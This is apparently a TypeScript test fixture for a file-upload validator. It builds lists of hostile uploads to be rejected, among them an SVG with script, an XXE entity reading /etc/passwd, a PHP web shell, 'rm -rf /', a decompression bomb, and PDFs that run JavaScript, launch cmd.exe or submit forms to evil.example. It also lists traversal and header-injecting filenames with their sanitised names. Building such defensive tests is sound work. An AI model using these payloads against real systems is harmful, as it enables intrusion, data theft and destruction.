import { packedPdf, page } from './pdf-files.ts'
import { crc32, deflateSync, gzipSync } from 'node:zlib'

export interface HostileUpload {
  readonly what: string
  readonly name: string
  readonly type: string
  readonly bytes: Uint8Array<ArrayBuffer>
}

const of = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'))
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))

function chunk(name: string, data: Uint8Array): Uint8Array {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return join(frame.subarray(0, 4), body, frame.subarray(4))
}

const PNG_START = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function header(width: number, height: number): Uint8Array {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([8, 2, 0, 0, 0], 8)
  return chunk('IHDR', data)
}

export const png = (width = 2, height = 2, ...further: Uint8Array[]) =>
  join(
    PNG_START,
    header(width, height),
    ...further,
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', of('')),
  )

export function jpeg(width = 2, height = 2, comment = ''): Uint8Array<ArrayBuffer> {
  const note = Buffer.from(comment, 'utf8')
  const com = comment ? [0xff, 0xfe, (note.length + 2) >> 8, (note.length + 2) & 255, ...note] : []
  const frame = [0xff, 0xc0, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]
  return Uint8Array.from([0xff, 0xd8, ...com, ...frame, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0, 1, 2, 0xff, 0xd9])
}

export const pdf = (inside = '') =>
  of(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${inside} >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`)

const SCRIPT = '<script>alert(document.domain)</script>'
const svg = of(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const html = of(`<!doctype html><html><body>${SCRIPT}</body></html>`)
const zip = join(Uint8Array.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0]), Buffer.alloc(40))
const bomb = new Uint8Array(gzipSync(Buffer.alloc(8 * 1024 * 1024)))
const cutShort = png().slice(0, 40)

const hostile = (what: string, name: string, type: string, bytes: Uint8Array): HostileUpload => ({
  what,
  name,
  type,
  bytes: join(bytes),
})

export const REFUSED: readonly HostileUpload[] = [
  hostile('nothing at all', 'a.jpg', 'image/jpeg', of('')),
  hostile('one byte', 'a.jpg', 'image/jpeg', of('x')),
  hostile('a page named as a photo', 'a.jpg', 'image/jpeg', html),
  hostile('a page named as a PDF', 'a.pdf', 'application/pdf', html),
  hostile('a page with a mark before it', 'a.png', 'image/png', join(of('\ufeff'), html)),
  hostile('an SVG with a script', 'a.svg', 'image/svg+xml', svg),
  hostile('an SVG named as a PNG', 'a.svg.png', 'image/png', svg),
  hostile(
    'an XML with an entity from outside',
    'a.pdf',
    'application/pdf',
    of('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  ),
  hostile('a program', 'setup.exe', 'application/octet-stream', join(of('MZ'), Buffer.alloc(200))),
  hostile('a program named as a photo', 'photo.jpg.exe', 'image/jpeg', join(of('MZ'), Buffer.alloc(200))),
  hostile('a Linux program', 'a.png', 'image/png', join(Uint8Array.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200))),
  hostile('a shell script', 'a.pdf', 'application/pdf', of('#!/bin/sh\nrm -rf /\n')),
  hostile('a PHP page', 'a.php.jpg', 'image/jpeg', of('<?php system($_GET[0]); ?>')),
  hostile('an archive', 'a.zip', 'application/zip', zip),
  hostile('an archive named as a document', 'a.docx', 'application/pdf', zip),
  hostile('a compressed bomb', 'a.gz', 'application/gzip', bomb),
  hostile('a compressed bomb named as a photo', 'a.jpg', 'image/jpeg', bomb),
  hostile('a GIF', 'a.gif', 'image/gif', of('GIF89a\u0001\u0000\u0001\u0000')),
  hostile('a GIF that is a script', 'a.png', 'image/png', of('GIF89a/*\u0000*/=1;alert(1)//')),
  hostile('a TIFF', 'a.tif', 'image/tiff', of('II*\u0000\b\u0000')),
  hostile('a sound', 'a.jpg', 'image/jpeg', join(of('RIFF'), Buffer.alloc(4), of('WAVE'))),
  hostile('a PNG 60,000 pixels wide', 'a.png', 'image/png', png(60_000, 10)),
  hostile('a PNG of 100 million pixels', 'a.png', 'image/png', png(10_000, 10_000)),
  hostile('a PNG as large as a header can say', 'a.png', 'image/png', png(0x7fffffff, 0x7fffffff)),
  hostile('a PNG of no width', 'a.png', 'image/png', png(0, 10)),
  hostile('a JPEG of 65,000 by 65,000 pixels', 'a.jpg', 'image/jpeg', jpeg(65_000, 65_000)),
  hostile('a JPEG of no height', 'a.jpg', 'image/jpeg', jpeg(10, 0)),
  hostile('a PNG cut short', 'a.png', 'image/png', cutShort),
  hostile('a PNG with a page behind its end', 'a.png', 'image/png', join(png(), html)),
  hostile(
    'a PNG whose chunk is longer than the file',
    'a.png',
    'image/png',
    join(PNG_START, header(2, 2), Uint8Array.from([0x7f, 0xff, 0xff, 0xff]), of('IDATxxxxxxxxxxxxxxxx')),
  ),
  hostile(
    'a PNG without a header',
    'a.png',
    'image/png',
    join(PNG_START, chunk('IDAT', of('x'.repeat(40))), chunk('IEND', of(''))),
  ),
  hostile('only the start of a PNG', 'a.png', 'image/png', PNG_START),
  hostile('only the start of a JPEG', 'a.jpg', 'image/jpeg', Uint8Array.from([0xff, 0xd8, 0xff, 0xe0])),
  hostile(
    'a JPEG that is a page after three bytes',
    'a.jpg',
    'image/jpeg',
    join(Uint8Array.from([0xff, 0xd8, 0xff]), html),
  ),
  hostile(
    'a JPEG whose segments go round in circles',
    'a.jpg',
    'image/jpeg',
    Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 0, 0xff, 0xda]),
  ),
  hostile(
    'a PDF with a script',
    'a.pdf',
    'application/pdf',
    pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  ),
  hostile(
    'a PDF with a script whose name is hidden',
    'a.pdf',
    'application/pdf',
    pdf('/OpenAction << /S /J#61vaScript /#4aS (1) >>'),
  ),
  hostile('a PDF that starts a program', 'a.pdf', 'application/pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  hostile('a PDF that carries another file', 'a.pdf', 'application/pdf', pdf('/Names << /EmbeddedFiles 2 0 R >>')),
  hostile(
    'a PDF with a script among packed objects',
    'a.pdf',
    'application/pdf',
    packedPdf(page('x', '/OpenAction 6 0 R', { 6: '<< /S /JavaScript /JS (app.alert(1)) >>' })),
  ),
  hostile(
    'a PDF that opens an address with it',
    'a.pdf',
    'application/pdf',
    pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  ),
  hostile(
    'a PDF that sends a form',
    'a.pdf',
    'application/pdf',
    pdf('/A << /S /SubmitForm /F (https://evil.example) >>'),
  ),
  hostile(
    'a PDF that leads to another computer',
    'a.pdf',
    'application/pdf',
    pdf('/A << /S /GoToR /F (//evil/x.pdf) >>'),
  ),
  hostile('an encrypted PDF', 'a.pdf', 'application/pdf', pdf('/Encrypt 2 0 R')),
  hostile('a PDF without an end', 'a.pdf', 'application/pdf', of('%PDF-1.7\nnothing')),
]

/** Kept under a safe name. */
export const INERT: readonly (HostileUpload & { readonly kept: string })[] = [
  { ...hostile('a name that climbs', '../../../etc/cron.d/x.png', 'image/png', png()), kept: 'x.png' },
  { ...hostile('a name that climbs on Windows', '..\\..\\boot.ini', 'image/png', png()), kept: 'boot.png' },
  { ...hostile('two endings', 'photo.php.jpg', 'image/jpeg', jpeg()), kept: 'photo_php.jpg' },
  { ...hostile('an ending that lies', 'photo.html', 'text/html', jpeg()), kept: 'photo.jpg' },
  { ...hostile('an end of text in the name', 'a.php\u0000.png', 'image/png', png()), kept: 'a_php.png' },
  { ...hostile('a name read backwards', 'a\u202egnp.exe', 'image/png', png()), kept: 'agnp.png' },
  { ...hostile('a header in the name', 'a"; filename="b.html', 'image/png', png()), kept: 'a filenameb.png' },
  { ...hostile('a device for a name', 'CON.png', 'image/png', png()), kept: '附件.png' },
  { ...hostile('no name but an ending', '.htaccess', 'image/jpeg', jpeg()), kept: '附件.jpg' },
  { ...hostile('a page in a comment', 'a.html', 'text/html', jpeg(2, 2, SCRIPT)), kept: 'a.jpg' },
  { ...hostile('a page in a chunk', 'a.svg', 'image/svg+xml', png(2, 2, chunk('tEXt', html))), kept: 'a.png' },
]
